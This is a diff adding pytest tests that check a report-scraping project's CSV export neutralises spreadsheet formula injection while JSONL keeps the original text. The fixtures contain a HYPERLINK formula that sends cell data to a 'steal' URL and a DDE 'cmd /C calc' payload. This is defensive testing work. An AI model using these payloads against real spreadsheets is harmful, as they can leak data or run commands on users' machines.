@@ -91,3 +91,73 @@ def test_a_right_to_left_override_in_a_title_never_reaches_the_html() -> None:
     markdown = pages.render_indicator("disputes_mediated", {r["report_id"]: r for r in rows}, observations, 1)
     assert not any(unicodedata.category(c) == "Cf" for c in markdown)
     assert pages.text(f"{RLO}标题") == "标题" and pages.html_text(f"<b>{RLO}</b>") == "&lt;b&gt;&lt;/b&gt;"
+
+
+# --- 11: formulas in CSV cells ------------------------------------------------------------------
+
+FORMULA_TITLE = '=HYPERLINK("http://127.0.0.1/steal?"&A1,"西仓镇2024年法治政府建设年度报告")'
+FORMULA_LINES = "\n@SUM(1+1)*cmd|' /C calc'!A0全年调解矛盾纠纷12起。\n-2+3全年发放宣传资料300份。"
+
+
+def _read(path: Path) -> list[dict[str, str]]:
+    with path.open(encoding="utf-8-sig", newline="") as handle:
+        return list(csv.DictReader(handle))
+
+
+def _cut(root: Path, items: list) -> Path:  # type: ignore[type-arg]
+    from flows import release, store
+    from parsers.models import Source
+    from tests.helpers import NOW
+
+    with store.open_store(root / "fazhi.sqlite") as conn:
+        store.merge(conn, items, [], NOW)
+        info = release.cut_release(conn, root / "releases", [Source(id="demo", name="演示", listing=["http://127.0.0.1/"])], NOW)
+    assert info is not None
+    return Path(info.path)
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised_and_jsonl_keeps_the_true_text(tmp_path: Path) -> None:
+    from parsers.models import Observation
+    from tests.conftest import seed_text
+    from tests.helpers import harvested
+
+    item = harvested("xicang", seed_text("xicang") + FORMULA_LINES, title=FORMULA_TITLE)
+    negative = Observation(indicator="disputes_mediated", value=-3, unit="起", qualifier="exact", quote="调解-3起", start=0, end=5,
+                           section="-总体情况")
+    item = item.model_copy(update={"extraction": item.extraction.model_copy(update={"observations": [*item.extraction.observations, negative]})})
+    folder = _cut(tmp_path, [item])
+
+    report = _read(folder / "reports.csv")[0]
+    assert report["title"] == "'" + FORMULA_TITLE
+    assert report["url"].startswith("http") and report["revision"] == "1"
+    observations = _read(folder / "observations.csv")
+    quotes = [o["quote"] for o in observations]
+    assert "'@SUM(1+1)*cmd|' /C calc'!A0全年调解矛盾纠纷12起" in quotes
+    assert "'-2+3全年发放宣传资料300份" in quotes
+    assert not any(q.startswith(("=", "+", "-", "@", "\t", "\r")) for q in quotes)
+    minus = next(o for o in observations if o["quote"] == "调解-3起")
+    assert minus["value"] == "-3" and minus["section"] == "'-总体情况"  # the number stays a number; the text is text
+    indicators = _read(folder / "indicators.csv")
+    assert all(not (cell or "").startswith(("=", "+", "@")) for row in indicators for cell in row.values())
+
+    record = json.loads((folder / "reports.jsonl").read_text(encoding="utf-8").splitlines()[0])
+    assert record["report"]["title"] == FORMULA_TITLE  # JSONL: the true text
+    assert "@SUM(1+1)" in record["text"]
+    assert FORMULA_TITLE in (folder / "CHANGELOG.md").read_text(encoding="utf-8")  # the change log reads the true text back
+
+    # The site reads the CSVs and shows the true text, not the mark.
+    from sitegen.build import _read_csv as site_rows
+    from sitegen.figures import FigureIndex
+
+    assert site_rows(folder / "reports.csv")[0]["title"] == FORMULA_TITLE
+    shown = [o["quote"] for o in FigureIndex(folder / "observations.csv", {report["report_id"]}).of_report(report["report_id"])]
+    assert "@SUM(1+1)*cmd|' /C calc'!A0全年调解矛盾纠纷12起" in shown and "调解-3起" in shown
+
+
+def test_neutralising_a_cell_is_undone_exactly() -> None:
+    from parsers.spreadsheet import neutralise_cell, restore_cell
+
+    for value in ["=1+1", "+86", "-", "@x", "\tx", "\rx", "'=1", "''", "'", "普通标题", "", "1-2", "a=b"]:
+        written = neutralise_cell(value)
+        assert not written.startswith(("=", "+", "-", "@", "\t", "\r"))
+        assert restore_cell(written) == value
